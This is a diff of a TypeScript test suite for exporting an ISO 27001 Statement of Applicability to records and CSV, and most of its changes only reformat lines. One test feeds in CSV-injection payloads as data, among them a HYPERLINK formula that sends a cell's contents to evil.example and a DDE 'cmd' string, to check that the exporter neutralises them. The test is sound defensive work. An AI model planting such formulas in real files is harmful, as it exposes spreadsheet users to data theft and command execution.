@@ -29,8 +29,22 @@ const COVERED: SoaEntry = {
 	evidence: '政策公告紀錄',
 	lastReviewed: '2026-01-15',
 };
-const UNCOVERED: SoaEntry = { id: 'A.5.1.2', applicable: true, reasons: ['practice'], status: 'planned', owner: '資訊室', lastReviewed: '2026-01-10' };
-const EXCLUDED: SoaEntry = { id: 'A.6.2.2', applicable: false, reasons: [], justification: '本局不開放遠距工作。', owner: '資訊室', lastReviewed: '2026-01-15' };
+const UNCOVERED: SoaEntry = {
+	id: 'A.5.1.2',
+	applicable: true,
+	reasons: ['practice'],
+	status: 'planned',
+	owner: '資訊室',
+	lastReviewed: '2026-01-10',
+};
+const EXCLUDED: SoaEntry = {
+	id: 'A.6.2.2',
+	applicable: false,
+	reasons: [],
+	justification: '本局不開放遠距工作。',
+	owner: '資訊室',
+	lastReviewed: '2026-01-15',
+};
 const UNJUSTIFIED: SoaEntry = { id: 'A.6.2.1', applicable: false, reasons: [] };
 
 function soaOf(entries: SoaEntry[]): Soa {
@@ -44,7 +58,12 @@ function soaOf(entries: SoaEntry[]): Soa {
 	};
 }
 
-const doc = (docNo: string, title: string, controls: string[]): ImplementingDocument => ({ docNo, title, url: `/documents/${docNo.toLowerCase()}/`, controls });
+const doc = (docNo: string, title: string, controls: string[]): ImplementingDocument => ({
+	docNo,
+	title,
+	url: `/documents/${docNo.toLowerCase()}/`,
+	controls,
+});
 
 /** A.5.1.1 covered by two documents, A.5.1.2 uncovered, A.6.2.2 excluded (and claimed by P-001), A.6.2.1 unjustified, the rest missing. */
 const matrix = computeSoa(c2013, soaOf([COVERED, UNCOVERED, EXCLUDED, UNJUSTIFIED]), [
@@ -60,7 +79,13 @@ const rowOf = (id: string) => matrix.rows.find((r) => r.control.id === id)!;
 const fullMatrix = computeSoa(
 	c2013,
 	soaOf(c2013.controls.map((c, i) => (i % 2 === 0 ? { ...COVERED, id: c.id } : { ...EXCLUDED, id: c.id }))),
-	[doc('ISMS-M-001', '資訊安全管理政策', c2013.controls.map((c) => c.id))],
+	[
+		doc(
+			'ISMS-M-001',
+			'資訊安全管理政策',
+			c2013.controls.map((c) => c.id),
+		),
+	],
 );
 
 const HEADING: SoaHeading = {
@@ -186,7 +211,20 @@ describe('soaRecords', () => {
 	});
 
 	it('an excluded control without justification has an empty reason cell', () => {
-		expect(recordOf('A.6.2.1')).toEqual(['A.6.2.1', '行動裝置政策', 'Mobile device policy', 'A.6 資訊安全之組織', '不適用', '', '', '', '', '', '—', '']);
+		expect(recordOf('A.6.2.1')).toEqual([
+			'A.6.2.1',
+			'行動裝置政策',
+			'Mobile device policy',
+			'A.6 資訊安全之組織',
+			'不適用',
+			'',
+			'',
+			'',
+			'',
+			'',
+			'—',
+			'',
+		]);
 	});
 
 	it('a control missing from the SoA', () => {
@@ -207,8 +245,17 @@ describe('soaRecords', () => {
 	});
 
 	it('the cell helpers', () => {
-		expect(['A.5.1.1', 'A.5.1.2', 'A.6.2.2', 'A.9.2.1'].map((id) => applicabilityLabel(rowOf(id)))).toEqual(['適用', '適用', '不適用', '未列入']);
-		expect(['A.5.1.1', 'A.6.2.2', 'A.9.2.1'].map((id) => reasonText(rowOf(id)))).toEqual(['風險評鑑、法規要求', '本局不開放遠距工作。', '']);
+		expect(['A.5.1.1', 'A.5.1.2', 'A.6.2.2', 'A.9.2.1'].map((id) => applicabilityLabel(rowOf(id)))).toEqual([
+			'適用',
+			'適用',
+			'不適用',
+			'未列入',
+		]);
+		expect(['A.5.1.1', 'A.6.2.2', 'A.9.2.1'].map((id) => reasonText(rowOf(id)))).toEqual([
+			'風險評鑑、法規要求',
+			'本局不開放遠距工作。',
+			'',
+		]);
 		expect(['A.5.1.1', 'A.5.1.2', 'A.6.2.2', 'A.9.2.1'].map((id) => statusLabel(rowOf(id)))).toEqual(['已實施', '規劃中', '', '']);
 		expect(['A.5.1.1', 'A.5.1.2', 'A.6.2.2', 'A.9.2.1'].map((id) => coverageLabel(rowOf(id)))).toEqual(['已涵蓋', '未涵蓋', '—', '—']);
 	});
@@ -247,8 +294,12 @@ describe('soaCsv', () => {
 		const full = soaCsv(fullMatrix);
 		const lines = full.slice(1).split('\r\n');
 		expect(lines[0]).toBe(SOA_COLUMNS.join(','));
-		expect(lines[1]).toBe('A.5.1.1,資訊安全政策,Policies for information security,A.5 資訊安全政策,適用,風險評鑑、法規要求,已實施,資通安全處理小組,政策公告紀錄,ISMS-M-001 資訊安全管理政策,已涵蓋,2026-01-15');
-		expect(lines[2]).toBe('A.5.1.2,資訊安全政策之審查,Review of the policies for information security,A.5 資訊安全政策,不適用,本局不開放遠距工作。,,資訊室,,ISMS-M-001 資訊安全管理政策,—,2026-01-15');
+		expect(lines[1]).toBe(
+			'A.5.1.1,資訊安全政策,Policies for information security,A.5 資訊安全政策,適用,風險評鑑、法規要求,已實施,資通安全處理小組,政策公告紀錄,ISMS-M-001 資訊安全管理政策,已涵蓋,2026-01-15',
+		);
+		expect(lines[2]).toBe(
+			'A.5.1.2,資訊安全政策之審查,Review of the policies for information security,A.5 資訊安全政策,不適用,本局不開放遠距工作。,,資訊室,,ISMS-M-001 資訊安全管理政策,—,2026-01-15',
+		);
 		expect(lines).toHaveLength(1 + 114 + 1);
 		expect(lines.at(-1)).toBe('');
 		expect(full.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
@@ -276,12 +327,20 @@ describe('soaCsv', () => {
 	it('neutralises cells a spreadsheet would run as formulas with a leading quote (OWASP), and no other cell', () => {
 		const hostile = computeSoa(
 			c2013,
-			soaOf([{ ...COVERED, owner: '=HYPERLINK("http://evil.example/?"&A1,"點此")', evidence: '+1+1' }, { ...EXCLUDED, justification: '-2+3', owner: '@SUM(A1:A9)' }, { ...UNCOVERED, owner: '\t=1', evidence: '\r=1' }]),
-			[doc('ISMS-P-006', '=cmd|\' /C calc\'!A0', ['A.5.1.1'])],
+			soaOf([
+				{ ...COVERED, owner: '=HYPERLINK("http://evil.example/?"&A1,"點此")', evidence: '+1+1' },
+				{ ...EXCLUDED, justification: '-2+3', owner: '@SUM(A1:A9)' },
+				{ ...UNCOVERED, owner: '\t=1', evidence: '\r=1' },
+			]),
+			[doc('ISMS-P-006', "=cmd|' /C calc'!A0", ['A.5.1.1'])],
 		);
 		const rows = readCsv(soaCsv(hostile).slice(1));
 		const row = (id: string) => rows.find((r) => r[0] === id)!;
-		expect(row('A.5.1.1').slice(7, 10)).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"點此")`, "'+1+1", "ISMS-P-006 =cmd|' /C calc'!A0"]);
+		expect(row('A.5.1.1').slice(7, 10)).toEqual([
+			`'=HYPERLINK("http://evil.example/?"&A1,"點此")`,
+			"'+1+1",
+			"ISMS-P-006 =cmd|' /C calc'!A0",
+		]);
 		expect([row('A.6.2.2')[5], row('A.6.2.2')[7]]).toEqual(["'-2+3", "'@SUM(A1:A9)"]);
 		expect([row('A.5.1.2')[7], row('A.5.1.2')[8]]).toEqual(["'\t=1", "'\r=1"]);
 		const formulaLike = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
@@ -308,7 +367,14 @@ describe('soaCells', () => {
 });
 
 describe('crosswalk coverage in the exports', () => {
-	const soa2022: Soa = { file: 'content/soa/2.0.yaml', version: '2.0', effective: '2026-12-01', approvedBy: '資通安全長', catalogue: '2022', entries: { 'A.5.17': { id: 'A.5.17', applicable: true, reasons: ['risk'], status: 'implemented' } } };
+	const soa2022: Soa = {
+		file: 'content/soa/2.0.yaml',
+		version: '2.0',
+		effective: '2026-12-01',
+		approvedBy: '資通安全長',
+		catalogue: '2022',
+		entries: { 'A.5.17': { id: 'A.5.17', applicable: true, reasons: ['risk'], status: 'implemented' } },
+	};
 	const via = computeSoa(c2022, soa2022, [doc('ISMS-S-001', '通行碼管理作業說明書', ['A.9.4.3'])], loaded.crosswalk);
 	const row = via.rows.find((r) => r.control.id === 'A.5.17')!;
 
@@ -319,7 +385,12 @@ describe('crosswalk coverage in the exports', () => {
 	});
 
 	it('a document citing the 2022 id directly is plain 已涵蓋', () => {
-		const direct = computeSoa(c2022, soa2022, [doc('ISMS-S-001', '通行碼管理作業說明書', ['A.9.4.3']), doc('ISMS-P-014', '存取控制管理程序書', ['A.5.17'])], loaded.crosswalk);
+		const direct = computeSoa(
+			c2022,
+			soa2022,
+			[doc('ISMS-S-001', '通行碼管理作業說明書', ['A.9.4.3']), doc('ISMS-P-014', '存取控制管理程序書', ['A.5.17'])],
+			loaded.crosswalk,
+		);
 		expect(coverageLabel(direct.rows.find((r) => r.control.id === 'A.5.17')!)).toBe('已涵蓋');
 	});
 });
